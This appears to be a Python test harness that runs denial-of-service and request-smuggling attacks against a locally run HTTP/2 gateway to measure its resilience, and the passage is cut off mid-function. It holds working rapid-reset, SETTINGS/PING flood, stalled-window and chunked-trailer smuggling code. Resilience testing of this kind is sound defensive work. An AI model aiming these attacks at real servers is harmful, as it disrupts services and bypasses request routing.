#!/usr/bin/env python3
"""Edge attacks against a running wasmgate: slow, idle and flooding HTTP/1.1 and HTTP/2 clients.

A probe calls `GET /fn/hello` every 50 ms, each call on a fresh TCP connection, alone first
(baseline) and then while each attack runs. Per phase it reports the probe's p50/p99 latency and
failures, the gateway's RSS (with --pid) and the `wasmgate_connections_open` gauge, and what the
attack saw: whether the gateway closed idle, stalled or flooding connections, sent GOAWAY, or
answered a smuggled request. Ends with a markdown table (or JSON with --json).

The gateway needs two functions deployed: `hello` (tests/guests http_hello) and `stream`
(tests/guests http_stream, a body of `?chunks=N` lines). scripts/bench-edge-attacks starts a
gateway, deploys both and runs this; to run it by hand against a gateway of your own:

    python3 -m venv venv && venv/bin/pip install 'h2==4.*'
    WASMGATE_ADMIN_TOKEN=... venv/bin/python loadtest/attacks/edge_attacks.py \
        --url http://127.0.0.1:8080 --seconds 15 --pid GATEWAY_PID --log GATEWAY_STDERR_FILE
    ... --only window-zero,ping-flood    # a subset

Attacks, in the order they run: idle-h2, window-zero, settings-flood, ping-flood, no-read,
rapid-reset, window-flip, trailer-smuggle. Each opens its own connections and closes all of them
when its phase ends; then (with --pid) the run waits for the gateway's CPU to calm down, so work an
attack leaves behind is reported in its row ("after the close") rather than in the next phase.
An attack on `stream` starts only once all of `stream`'s concurrency slots are free again.
Well-formed HTTP/2 clients use the h2 package's state machine; the floods and resets write raw
frames, which a conforming library would not send.
"""

import argparse
import json
import multiprocessing
import os
import resource
import selectors
import socket
import struct
import sys
import threading
import time
import urllib.parse

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8
ACK, END_STREAM, END_HEADERS = 0x1, 0x1, 0x4
INITIAL_WINDOW_SIZE = 0x4
ERROR_NAMES = {
    0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x2: "INTERNAL_ERROR", 0x3: "FLOW_CONTROL_ERROR",
    0x4: "SETTINGS_TIMEOUT", 0x5: "STREAM_CLOSED", 0x6: "FRAME_SIZE_ERROR", 0x7: "REFUSED_STREAM",
    0x8: "CANCEL", 0x9: "COMPRESSION_ERROR", 0xA: "CONNECT_ERROR", 0xB: "ENHANCE_YOUR_CALM",
    0xC: "INADEQUATE_SECURITY", 0xD: "HTTP_1_1_REQUIRED",
}
PROBE_INTERVAL = 0.05
PROBE_TIMEOUT = 5.0
SETTLE = 1.0  # pause after an attack's cleanup, before looking at what it left behind
MAX_SOCKETS = 3000


def log(msg):
    print(f"--> {msg}", file=sys.stderr, flush=True)


def err_name(code):
    return f"{ERROR_NAMES.get(code, 'UNKNOWN')} (0x{code:x})"


# --- raw HTTP/2 frames ------------------------------------------------------------------------

def frame(ftype, flags, sid, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([ftype, flags]) + sid.to_bytes(4, "big") + payload


def settings_frame(pairs=(), flags=0):
    return frame(SETTINGS, flags, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def hpack_str(text):
    raw = text.encode()
    if len(raw) >= 127:
        raise ValueError("header value too long for the one-byte length prefix")
    return bytes([len(raw)]) + raw


def request_block(path, authority):
    """A GET request's header block that uses the static table only, so it can be resent as is:
    :method GET (index 2), :scheme http (index 6), then :path and :authority as literals without
    indexing with indexed names (4 and 1)."""
    return b"\x82\x86" + b"\x04" + hpack_str(path) + b"\x01" + hpack_str(authority)


class FrameReader:
    """Splits received bytes into (type, flags, stream id, payload) frames."""

    def __init__(self):
        self.buf = bytearray()

    def feed(self, data):
        self.buf += data
        out = []
        b = self.buf
        i, n = 0, len(b)
        while n - i >= 9:
            length = (b[i] << 16) | (b[i + 1] << 8) | b[i + 2]
            if n - i < 9 + length:
                break
            sid = int.from_bytes(b[i + 5:i + 9], "big") & 0x7FFFFFFF
            out.append((b[i + 3], b[i + 4], sid, bytes(b[i + 9:i + 9 + length])))
            i += 9 + length
        del b[:i]
        return out


def goaway_code(payload):
    return struct.unpack(">I", payload[4:8])[0] if len(payload) >= 8 else None


# --- helpers ----------------------------------------------------------------------------------

class Target:
    def __init__(self, url):
        u = urllib.parse.urlsplit(url)
        if u.scheme != "http" or not u.hostname:
            raise SystemExit(f"--url must be http://HOST:PORT, got {url}")
        self.host = u.hostname
        self.port = u.port or 80
        self.authority = f"{self.host}:{self.port}"

    def connect(self, rcvbuf=None, timeout=5.0):
        s = socket.socket(socket.AF_INET6 if ":" in self.host else socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        s.settimeout(timeout)
        try:
            s.connect((self.host, self.port))
        except OSError:
            s.close()
            raise
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return s


def close_all(socks):
    for s in socks:
        try:
            s.close()
        except OSError:
            pass


def rss_kib(pid):
    if not pid:
        return None
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        return None
    return None


def metric(target, name):
    """The sum of a Prometheus family's samples from /metrics, or None when unreachable."""
    headers = {"Host": target.authority, "Connection": "close"}
    token = os.environ.get("WASMGATE_ADMIN_TOKEN")
    if token:
        headers["Authorization"] = f"Bearer {token}"
    try:
        s = target.connect(timeout=3.0)
        try:
            req = "GET /metrics HTTP/1.1\r\n" + "".join(f"{k}: {v}\r\n" for k, v in headers.items()) + "\r\n"
            s.sendall(req.encode())
            status, _, body = read_response(s, time.monotonic() + 3.0)
        finally:
            s.close()
    except OSError:
        return None
    if status != 200 or body is None:
        return None
    total, seen = 0.0, False
    for line in body.decode(errors="replace").splitlines():
        parts = line.split()
        if len(parts) >= 2 and (parts[0] == name or parts[0].startswith(name + "{")):
            total += float(parts[1])
            seen = True
    return int(total) if seen else None


def log_lines(path):
    """Bytes and newlines in the file so far (None when no --log)."""
    if not path:
        return None
    try:
        with open(path, "rb") as f:
            data = f.read()
        return len(data), data.count(b"\n")
    except OSError:
        return None


class SockReader:
    """Buffered reads from a blocking socket against a deadline."""

    def __init__(self, sock, deadline):
        self.sock, self.deadline, self.buf = sock, deadline, bytearray()

    def _more(self):
        left = self.deadline - time.monotonic()
        if left <= 0:
            raise socket.timeout("deadline")
        self.sock.settimeout(left)
        data = self.sock.recv(65536)
        if not data:
            raise EOFError
        self.buf += data

    def line(self):
        while True:
            i = self.buf.find(b"\n")
            if i >= 0:
                out = bytes(self.buf[:i + 1])
                del self.buf[:i + 1]
                return out
            self._more()

    def exact(self, n):
        while len(self.buf) < n:
            self._more()
        out = bytes(self.buf[:n])
        del self.buf[:n]
        return out

    def rest(self):
        try:
            while True:
                self._more()
        except EOFError:
            pass
        out = bytes(self.buf)
        self.buf.clear()
        return out


def read_one(reader):
    """One HTTP/1.1 response from `reader`: (status line, status code, body)."""
    status_line = reader.line().rstrip(b"\r\n").decode(errors="replace")
    try:
        code = int(status_line.split()[1])
    except (IndexError, ValueError):
        code = None
    length, chunked, close = None, False, False
    while True:
        h = reader.line().rstrip(b"\r\n")
        if not h:
            break
        k, _, v = h.partition(b":")
        k, v = k.strip().lower(), v.strip().lower()
        if k == b"content-length":
            length = int(v)
        elif k == b"transfer-encoding" and b"chunked" in v:
            chunked = True
        elif k == b"connection" and v == b"close":
            close = True
    if code in (204, 304) or (code is not None and 100 <= code < 200):
        body = b""
    elif chunked:
        parts = []
        while True:
            size = int(reader.line().split(b";")[0].strip(), 16)
            if size == 0:
                while reader.line().strip():
                    pass
                break
            parts.append(reader.exact(size))
            reader.exact(2)
        body = b"".join(parts)
    elif length is not None:
        body = reader.exact(length)
    else:
        body = reader.rest()
        close = True
    return status_line, code, body, close


def read_response(sock, deadline):
    try:
        status_line, code, body, _ = read_one(SockReader(sock, deadline))
        return code, status_line, body
    except (OSError, EOFError, ValueError):
        return None, None, None


# --- the probe (a process of its own, so the attacks' Python work does not delay it) ----------

def _probe_once(target, results, lock):
    t0 = time.monotonic()
    code, err = None, None
    try:
        s = target.connect(timeout=PROBE_TIMEOUT)
        try:
            s.sendall(f"GET /fn/hello HTTP/1.1\r\nHost: {target.authority}\r\nConnection: close\r\n\r\n".encode())
            code, _, _ = read_response(s, t0 + PROBE_TIMEOUT)
            if code is None:
                err = "no response"
        finally:
            s.close()
    except OSError as e:
        err = type(e).__name__
    with lock:
        results.append((t0, (time.monotonic() - t0) * 1000.0, code, err))


def probe_main(url, pid, stop, conn):
    target = Target(url)
    results, lock, threads, rss = [], threading.Lock(), [], []
    nxt = time.monotonic()
    last_rss = 0.0
    while not stop.is_set():
        now = time.monotonic()
        if now >= nxt:
            t = threading.Thread(target=_probe_once, args=(target, results, lock), daemon=True)
            t.start()
            threads.append(t)
            threads = [t for t in threads if t.is_alive()]
            nxt += PROBE_INTERVAL
            if nxt < now:  # fell behind: skip missed ticks rather than bursting
                nxt = now + PROBE_INTERVAL
        if pid and now - last_rss >= 0.25:
            last_rss = now
            r = rss_kib(pid)
            if r is not None:
                rss.append(r)
        stop.wait(max(0.0, min(nxt - time.monotonic(), 0.25)))
    for t in threads:
        t.join(PROBE_TIMEOUT + 1)
    with lock:
        conn.send({"results": list(results), "rss_peak_kib": max(rss) if rss else None})
    conn.close()


class Probe:
    def __init__(self, url, pid):
        self.url, self.pid = url, pid

    def __enter__(self):
        ctx = multiprocessing.get_context("fork")
        self.stop = ctx.Event()
        self.rx, tx = ctx.Pipe(duplex=False)
        self.proc = ctx.Process(target=probe_main, args=(self.url, self.pid, self.stop, tx), daemon=True)
        self.proc.start()
        tx.close()
        return self

    def finish(self):
        self.stop.set()
        data = self.rx.recv() if self.rx.poll(PROBE_TIMEOUT + 5) else {"results": [], "rss_peak_kib": None}
        self.proc.join(5)
        return data

    def __exit__(self, *exc):
        if self.proc.is_alive():
            self.stop.set()
            self.proc.join(2)
            if self.proc.is_alive():
                self.proc.terminate()


def percentile(values, q):
    if not values:
        return None
    v = sorted(values)
    k = max(0, min(len(v) - 1, int(round(q / 100.0 * len(v) + 0.5)) - 1))
    return v[k]


# --- the attacks ------------------------------------------------------------------------------
# Each takes (target, args, seconds) and returns {"outcome": str, ...facts}; each closes every
# socket it opened before returning.

def attack_idle_h2(target, args, seconds):
    sel = selectors.DefaultSelector()
    socks, failed = {}, 0
    hello = PREFACE + settings_frame()
    t0 = time.monotonic()
    deadline = t0 + seconds
    closed_at, goaways = [], {}

    def pump(timeout):
        for key, _ in sel.select(timeout):
            s = key.fileobj
            st = key.data
            try:
                data = s.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if not data:
                closed_at.append(time.monotonic() - t0)
                sel.unregister(s)
                continue
            for ftype, flags, _sid, payload in st.feed(data):
                try:
                    if ftype == SETTINGS and not flags & ACK:
                        s.send(settings_frame(flags=ACK))
                    elif ftype == PING and not flags & ACK:
                        s.send(frame(PING, ACK, 0, payload))
                    elif ftype == GOAWAY:
                        c = err_name(goaway_code(payload))
                        goaways[c] = goaways.get(c, 0) + 1
                except OSError:
                    pass

    try:
        for i in range(args.conns):
            if time.monotonic() >= deadline:
                break
            try:
                s = target.connect(timeout=5.0)
                s.sendall(hello)
                s.setblocking(False)
            except OSError:
                failed += 1
                continue
            socks[s] = True
            sel.register(s, selectors.EVENT_READ, FrameReader())
            if i % 100 == 99:
                pump(0)
        opened_in = time.monotonic() - t0
        log(f"idle-h2: {len(socks)} connections open after {opened_in:.1f}s ({failed} failed); holding")
        while time.monotonic() < deadline:
            pump(min(0.5, max(0.0, deadline - time.monotonic())))
        gauge = metric(target, "wasmgate_connections_open")
        still = len(sel.get_map())
        first = f", first closed after {min(closed_at):.1f}s" if closed_at else ""
        ga = f", GOAWAY {goaways}" if goaways else ""
        return {
            "outcome": f"{still}/{len(socks)} still open after {seconds:.0f}s, gauge {gauge}{first}{ga}",
            "opened": len(socks), "connect_failed": failed, "still_open": still,
            "closed_after_s": sorted(closed_at), "goaway": goaways, "gauge_at_end": gauge,
        }
    finally:
        sel.close()
        close_all(socks)


def h2_client(local_settings=None, conn_window=None):
    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    values = {h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 100}
    values.update(local_settings or {})
    c.local_settings = h2.settings.Settings(client=True, initial_values=values)
    c.initiate_connection()
    if conn_window:
        c.increment_flow_control_window(conn_window)
    return c


def h2_get(c, target, path):
    sid = c.get_next_available_stream_id()
    c.send_headers(sid, [(":method", "GET"), (":scheme", "http"), (":authority", target.authority),
                         (":path", path)], end_stream=True)
    return sid


def attack_window_zero(target, args, seconds):
    path = f"/fn/stream?chunks={args.chunks}"
    t0 = time.monotonic()
    deadline = t0 + seconds
    s = target.connect()
    try:
        c = h2_client({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
        sids = [h2_get(c, target, path) for _ in range(args.streams)]
        s.sendall(c.data_to_send())
        status, reset, ended, data = {}, {}, {}, 0
        closed, goaway = None, None
        while time.monotonic() < deadline and closed is None:
            s.settimeout(max(0.01, min(0.5, deadline - time.monotonic())))
            try:
                raw = s.recv(65536)
            except socket.timeout:
                continue
            except OSError as e:
                closed = (time.monotonic() - t0, type(e).__name__)
                break
            if not raw:
                closed = (time.monotonic() - t0, "EOF")
                break
            try:
                events = c.receive_data(raw)
            except h2.exceptions.ProtocolError as e:
                closed = (time.monotonic() - t0, f"protocol error: {e}")
                break
            now = time.monotonic() - t0
            for e in events:
                if isinstance(e, h2.events.ResponseReceived):
                    status[e.stream_id] = dict(e.headers).get(":status")
                elif isinstance(e, h2.events.StreamReset):
                    reset[e.stream_id] = (now, err_name(e.error_code))
                elif isinstance(e, h2.events.StreamEnded):
                    ended[e.stream_id] = now
                elif isinstance(e, h2.events.DataReceived):
                    data += len(e.data)
                elif isinstance(e, h2.events.ConnectionTerminated):
                    goaway = (now, err_name(e.error_code))
            out = c.data_to_send()  # SETTINGS and PING acknowledgements only: never WINDOW_UPDATE
            if out:
                s.sendall(out)
        codes = sorted({v[1] for v in reset.values()})
        when = ""
        if reset:
            ts = sorted(v[0] for v in reset.values())
            when = f" (first {ts[0]:.1f}s, last {ts[-1]:.1f}s, {', '.join(codes)})"
        statuses = {}
        for v in status.values():
            statuses[v] = statuses.get(v, 0) + 1
        answered = ", ".join(f"{n}x {k}" for k, n in statuses.items())
        parts = [f"{len(sids)} streams: {len(status)} answered ({answered})",
                 f"{len(reset)} RST_STREAM{when}", f"{len(ended)} END_STREAM"]
        if goaway:
            parts.append(f"GOAWAY {goaway[1]} at {goaway[0]:.1f}s")
        parts.append(f"connection closed at {closed[0]:.1f}s ({closed[1]})" if closed else f"connection open after {seconds:.0f}s")
        return {
            "outcome": "; ".join(parts), "streams": len(sids), "headers": len(status), "statuses": statuses,
            "reset": len(reset), "reset_after_s": sorted(v[0] for v in reset.values()), "reset_codes": codes,
            "ended": len(ended), "data_bytes": data, "goaway": goaway, "closed": closed,
        }
    finally:
        s.close()


TCP_STATES = {1: "ESTABLISHED", 2: "SYN_SENT", 3: "SYN_RECV", 4: "FIN_WAIT1", 5: "FIN_WAIT2",
              6: "TIME_WAIT", 7: "CLOSE", 8: "CLOSE_WAIT", 9: "LAST_ACK", 10: "LISTEN", 11: "CLOSING"}


def gateway_side_states(server_port):
    """{client port: TCP state} of the gateway's sockets to local clients, read from
    /proc/net/tcp{,6}: the gateway closing a connection shows there (FIN_WAIT1 while its unsent
    body still waits for our window) even when the client cannot see it without reading."""
    out = {}
    for name in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(name) as f:
                next(f)
                for line in f:
                    p = line.split()
                    lport = int(p[1].rsplit(":", 1)[1], 16)
                    if lport == server_port:
                        out[int(p[2].rsplit(":", 1)[1], 16)] = TCP_STATES.get(int(p[3], 16), p[3])
        except (OSError, StopIteration):
            pass
    return out


def own_state(sock):
    try:
        info = sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)
        return TCP_STATES.get(info[0], str(info[0]))
    except OSError:
        return "CLOSED"


def peek_status(cn):
    """The response status of a connection we do not read, from bytes peeked at (MSG_PEEK leaves
    them queued, so the receive window stays shut)."""
    try:
        data = cn["sock"].recv(4096, socket.MSG_PEEK | socket.MSG_DONTWAIT)
    except OSError:
        return None
    if cn["kind"] == "h1":
        line = data.split(b"\r\n", 1)[0].split()
        return line[1].decode() if len(line) > 1 and b"\r\n" in data else None
    decoder = hpack.Decoder()
    for ftype, flags, sid, payload in FrameReader().feed(data):
        if ftype == HEADERS:
            headers = dict(decoder.decode(header_block(flags, payload)))
            if sid == cn["sid"]:
                return headers.get(":status")
    return None


def attack_no_read(target, args, seconds):
    path = f"/fn/stream?chunks={args.chunks}"
    t0 = time.monotonic()
    deadline = t0 + seconds
    conns = []  # dicts: kind, sock, port, sid, status, closed_after, how
    try:
        for _ in range(args.noread_conns):
            s = target.connect(rcvbuf=args.rcvbuf)
            s.sendall(f"GET {path} HTTP/1.1\r\nHost: {target.authority}\r\n\r\n".encode())
            conns.append({"kind": "h1", "sock": s, "port": s.getsockname()[1], "sid": None})
        big = 2**31 - 1
        for _ in range(args.noread_conns):
            s = target.connect(rcvbuf=args.rcvbuf)
            c = h2_client({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: big}, conn_window=big - 65535)
            sid = h2_get(c, target, path)
            s.sendall(c.data_to_send())
            conns.append({"kind": "h2", "sock": s, "port": s.getsockname()[1], "sid": sid})
        for cn in conns:
            cn.update(status=None, closed_after=None, how=None)
        # Never read. Watch both ends: the gateway's socket in /proc/net/tcp (local gateways) and
        # our own socket's state (FIN or RST received).
        visible = bool(gateway_side_states(target.port))
        while time.monotonic() < deadline:
            states = gateway_side_states(target.port) if visible else {}
            now = time.monotonic() - t0
            for cn in conns:
                if cn["status"] is None:
                    cn["status"] = peek_status(cn)
                if cn["closed_after"] is not None:
                    continue
                mine = own_state(cn["sock"])
                theirs = states.get(cn["port"], "gone") if visible else None
                if mine != "ESTABLISHED" or (visible and theirs != "ESTABLISHED"):
                    cn["closed_after"], cn["how"] = now, f"ours {mine}, gateway's {theirs}"
            time.sleep(min(0.5, max(0.0, deadline - time.monotonic())))
        gauge = metric(target, "wasmgate_connections_open")
        # A later send, then reads for a second on all of them at once: a closed connection
        # answers with an error or, once the buffered body is read, EOF; an open one keeps streaming.
        sel = selectors.DefaultSelector()
        for cn in conns:
            cn["final_check"], cn["drained"] = None, 0
            s = cn["sock"]
            s.setblocking(False)
            try:
                s.send(b"\r\n" if cn["kind"] == "h1" else frame(PING, 0, 0, b"12345678"))
            except BlockingIOError:
                pass
            except OSError as e:
                cn["final_check"] = type(e).__name__
                continue
            sel.register(s, selectors.EVENT_READ, cn)
        end = time.monotonic() + 1.0
        while sel.get_map() and time.monotonic() < end:
            for key, _ in sel.select(max(0.0, end - time.monotonic())):
                cn = key.data
                try:
                    d = key.fileobj.recv(1 << 20)
                except BlockingIOError:
                    continue
                except OSError as e:
                    d, cn["final_check"] = None, type(e).__name__
                if d == b"":
                    cn["final_check"] = "EOF"
                if d:
                    cn["drained"] += len(d)
                else:
                    sel.unregister(key.fileobj)
        sel.close()
        for cn in conns:
            if cn["final_check"] is None:
                cn["final_check"] = "open"
            elif cn["closed_after"] is None:
                cn["closed_after"], cn["how"] = seconds, f"{cn['final_check']} at the final check"
        summary, parts = {}, []
        for kind in ("h1", "h2"):
            mine = [cn for cn in conns if cn["kind"] == kind]
            shut = [cn["closed_after"] for cn in mine if cn["closed_after"] is not None]
            still = len(mine) - len(shut)
            statuses = {}
            for cn in mine:
                statuses[cn["status"]] = statuses.get(cn["status"], 0) + 1
            summary[kind] = {"conns": len(mine), "statuses": statuses, "still_open": still,
                             "closed_after_s": [round(t, 1) for t in sorted(shut)],
                             "how": sorted({cn["how"] for cn in mine if cn["how"]}),
                             "final_check": sorted({cn["final_check"] for cn in mine})}
            when = f" (closed after {min(shut):.1f}-{max(shut):.1f}s)" if shut else ""
            answered = ", ".join(f"{n}x {k}" for k, n in statuses.items())
            parts.append(f"{kind}: {still}/{len(mine)} still open{when}, answered {answered}")
        return {"outcome": "; ".join(parts) + f"; after {seconds:.0f}s, gauge {gauge}",
                "gateway_side_visible": visible, "gauge_at_end": gauge, **summary}
    finally:
        close_all(cn["sock"] for cn in conns)


def header_block(flags, payload):
    """A HEADERS frame's header block without padding and priority fields."""
    i, end = 0, len(payload)
    if flags & 0x8:  # PADDED
        end -= payload[0]
        i = 1
    if flags & 0x20:  # PRIORITY
        i += 5
    return payload[i:end]


def flood(target, seconds, setup, batch, label):
    """Writes `batch` (whole frames of `frame_len` bytes each) as fast as the socket takes it,
    reading and counting whatever comes back, until the phase ends or the gateway closes."""
    unit, frame_len = batch
    t0 = time.monotonic()
    deadline = t0 + seconds
    s = target.connect()
    reader = FrameReader()
    sent_bytes, acks, goaway, closed, other = 0, 0, None, None, {}
    decoder, statuses, resets = hpack.Decoder(), {}, {}
    try:
        s.sendall(setup)
        s.setblocking(False)
        sel = selectors.DefaultSelector()
        sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE)
        pending = memoryview(unit)
        while closed is None:
            now = time.monotonic()
            if now >= deadline:
                break
            for _key, ev in sel.select(min(0.2, deadline - now)):
                if ev & selectors.EVENT_READ:
                    try:
                        data = s.recv(1 << 20)
                    except BlockingIOError:
                        data = None
                    except OSError as e:
                        closed = (time.monotonic() - t0, type(e).__name__)
                        break
                    if data == b"":
                        closed = (time.monotonic() - t0, "EOF")
                        break
                    for ftype, flags, _sid, payload in reader.feed(data or b""):
                        if ftype in (SETTINGS, PING) and flags & ACK:
                            acks += 1
                        elif ftype == GOAWAY and goaway is None:
                            goaway = (time.monotonic() - t0, err_name(goaway_code(payload)))
                        elif ftype == SETTINGS:
                            try:
                                s.send(settings_frame(flags=ACK))
                            except OSError:
                                pass
                        elif ftype == HEADERS:
                            st = dict(decoder.decode(header_block(flags, payload))).get(":status")
                            statuses[st] = statuses.get(st, 0) + 1
                        elif ftype == RST_STREAM:
                            c = err_name(struct.unpack(">I", payload[:4])[0])
                            resets[c] = resets.get(c, 0) + 1
                        else:
                            other[ftype] = other.get(ftype, 0) + 1
                if ev & selectors.EVENT_WRITE and closed is None:
                    try:
                        n = s.send(pending)
                    except BlockingIOError:
                        n = 0
                    except OSError as e:
                        closed = (time.monotonic() - t0, type(e).__name__)
                        break
                    sent_bytes += n
                    pending = pending[n:]
                    if not pending:
                        pending = memoryview(unit)
        sel.close()
        frames = sent_bytes // frame_len
        rate = frames / max(0.001, (closed[0] if closed else seconds))
        parts = [f"{frames} {label} frames sent ({rate:,.0f}/s), {acks} ACKs back"]
        if resets:
            parts.append("RST_STREAM " + ", ".join(f"{n}x {c}" for c, n in resets.items()))
        parts.append(f"GOAWAY {goaway[1]} at {goaway[0]:.1f}s" if goaway else "no GOAWAY")
        parts.append(f"closed at {closed[0]:.1f}s ({closed[1]})" if closed else f"open after {seconds:.0f}s")
        return {"outcome": ", ".join(parts), "frames_sent": frames, "acks": acks, "goaway": goaway,
                "closed": closed, "statuses": statuses, "resets": resets,
                "other_frames": {str(k): v for k, v in other.items()}}
    finally:
        s.close()


def reconnecting(seconds, one_connection):
    """Runs `one_connection(seconds_left)` again each time the gateway closes it, for the whole
    phase, as a determined attacker would, so the probe measures a flood that never stops; sums
    what the connections reported."""
    deadline = time.monotonic() + seconds
    runs = []
    while True:
        left = deadline - time.monotonic()
        if left <= 0.05:
            break
        run = one_connection(left)
        runs.append(run)
        if not run["closed"]:
            break
    frames = sum(r["frames_sent"] for r in runs)
    closed = sum(1 for r in runs if r["closed"])
    goaways = {}
    for r in runs:
        if r["goaway"]:
            goaways[r["goaway"][1]] = goaways.get(r["goaway"][1], 0) + 1
    shown = ", ".join(f"{n}x {c}" for c, n in goaways.items()) or "none"
    first = runs[0]["outcome"] if runs else "no connection"
    outcome = (f"{len(runs)} connections, {frames} frames in all ({frames / seconds:,.0f}/s), "
               f"{closed} closed by the gateway, GOAWAY {shown}; first connection: {first}")
    return {"outcome": outcome, "connections": len(runs), "frames_sent": frames,
            "closed_by_gateway": closed, "goaways": goaways,
            "closed": runs[-1]["closed"] if runs else None}


def attack_settings_flood(target, args, seconds):
    one = settings_frame()
    return reconnecting(seconds, lambda left: flood(
        target, left, PREFACE + settings_frame(), (one * 1000, len(one)), "SETTINGS"))


def attack_ping_flood(target, args, seconds):
    one = frame(PING, 0, 0, b"\x00" * 8)
    return reconnecting(seconds, lambda left: flood(
        target, left, PREFACE + settings_frame(), (one * 1000, len(one)), "PING"))


def attack_window_flip(target, args, seconds):
    block = request_block(f"/fn/stream?chunks={args.chunks}", target.authority)
    opens = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, block) for i in range(args.streams))
    a = settings_frame([(INITIAL_WINDOW_SIZE, 0)])
    b = settings_frame([(INITIAL_WINDOW_SIZE, 65535)])
    result = flood(target, seconds, PREFACE + settings_frame() + opens, ((a + b) * 500, len(a)),
                   "SETTINGS(INITIAL_WINDOW_SIZE 0/65535)")
    answered = ", ".join(f"{n}x {k}" for k, n in result["statuses"].items()) or "nothing"
    result["outcome"] = f"{args.streams} streams answered {answered}; " + result["outcome"]
    return result


def attack_rapid_reset(target, args, seconds):
    block = request_block("/fn/hello", target.authority)
    cancel = struct.pack(">I", 0x8)
    t0 = time.monotonic()
    deadline = t0 + seconds
    conns, streams, goaways, failures = 0, 0, {}, 0
    refused = 0
    while time.monotonic() < deadline:
        try:
            s = target.connect()
        except OSError:
            failures += 1
            time.sleep(0.05)
            continue
        conns += 1
        reader = FrameReader()
        sid = 1
        try:
            s.sendall(PREFACE + settings_frame())
            s.setblocking(False)
            done = False
            while not done and time.monotonic() < deadline and sid < 2**31 - 200:
                burst = []
                for _ in range(100):
                    burst.append(frame(HEADERS, END_STREAM | END_HEADERS, sid, block))
                    burst.append(frame(RST_STREAM, 0, sid, cancel))
                    sid += 2
                data = b"".join(burst)
                view = memoryview(data)
                while view and not done:
                    try:
                        n = s.send(view)
                        view = view[n:]
                    except BlockingIOError:
                        pass
                    except OSError:
                        done = True
                        break
                    try:
                        got = s.recv(1 << 20)
                        if not got:
                            done = True
                        for ftype, flags, _sid, payload in reader.feed(got):
                            if ftype == GOAWAY:
                                c = err_name(goaway_code(payload))
                                goaways[c] = goaways.get(c, 0) + 1
                                done = True
                            elif ftype == RST_STREAM and struct.unpack(">I", payload[:4])[0] == 0x7:
                                refused += 1
                            elif ftype == SETTINGS and not flags & ACK:
                                s.send(settings_frame(flags=ACK))
                            elif ftype == PING and not flags & ACK:
                                s.send(frame(PING, ACK, 0, payload))
                    except BlockingIOError:
                        pass
                    except OSError:
                        done = True
                    if view and not done:
                        time.sleep(0.001)
                streams += (len(data) - len(view)) // (len(data) // 100)
        finally:
            s.close()
    ga = ", ".join(f"{n}x {c}" for c, n in goaways.items()) if goaways else "no GOAWAY"
    return {"outcome": f"{conns} connections, {streams} streams opened and reset, {ga}",
            "connections": conns, "streams": streams, "goaway": goaways, "refused_stream": refused,
            "connect_failures": failures}


SMUGGLE = (b"POST /fn/hello HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nX: y\n\r\n"
           b"POST /fn/hello HTTP/1.1\r\nHost: x\r\nContent-Length: 36\r\n\r\n"
           b"GET /fn/hidden HTTP/1.1\r\nHost: x\r\n\r\n")


def attack_trailer_smuggle(target, args, seconds):
    t0 = time.monotonic()
    s = target.connect()
    lines, end = [], None
    try:
        s.sendall(SMUGGLE)
        reader = SockReader(s, t0 + seconds)
        while True:
            try:
                status_line, _code, body, _close = read_one(reader)
                lines.append(status_line)
                snippet = body[:80].decode(errors="replace").strip()
                log(f"trailer-smuggle: {status_line} {snippet!r} at {time.monotonic() - t0:.2f}s")
            except EOFError:
                end = (time.monotonic() - t0, "closed by the gateway")
                break
            except socket.timeout:
                end = (time.monotonic() - t0, "still open at the end of the phase")
                break
            except (OSError, ValueError) as e:
                end = (time.monotonic() - t0, type(e).__name__)
                break
    finally:
        s.close()
    codes = [ln.split()[1] if len(ln.split()) > 1 else ln for ln in lines]
    hidden = len(codes) >= 2
    verdict = "hidden request answered (smuggled)" if hidden else "hidden request not answered"
    shown = ", ".join(codes) if codes else "none"
    return {"outcome": f"responses: {shown}; {verdict}; {end[1]} after {end[0]:.1f}s",
            "status_lines": lines, "smuggled": hidden, "end": end}


# In the order they run: the attacks on `stream` are spaced out, since instances a closed
# connection leaves busy can keep the function at its concurrency limit for a while.
ATTACKS = {
    "idle-h2": attack_idle_h2,
    "window-zero": attack_window_zero,
    "settings-flood": attack_settings_flood,
    "ping-flood": attack_ping_flood,
    "no-read": attack_no_read,
    "rapid-reset": attack_rapid_reset,
    "window-flip": attack_window_flip,
    "trailer-smuggle": attack_trailer_smuggle,
}
# Attacks that call `stream`, and (of those) the ones holding as many calls as its default
# concurrency (100): after those, whether `stream` takes new calls shows whether the gateway
# released the calls of the closed connection.
USES_STREAM = {"window-zero", "no-read", "window-flip"}
FILLS_STREAM = {"window-zero", "window-flip"}


# --- phases and report ------------------------------------------------------------------------

def stream_busy(target, slots):
    """How many of `stream`'s concurrency slots are taken: `slots` calls of `/fn/stream?chunks=1`
    at once on one HTTP/2 connection, counting those not answered 200 (429 after the function's
    queue timeout). None when the check itself fails."""
    try:
        s = target.connect(timeout=10.0)
    except OSError:
        return None
    try:
        c = h2_client()
        sids = {h2_get(c, target, "/fn/stream?chunks=1") for _ in range(slots)}
        s.sendall(c.data_to_send())
        done, ok = set(), 0
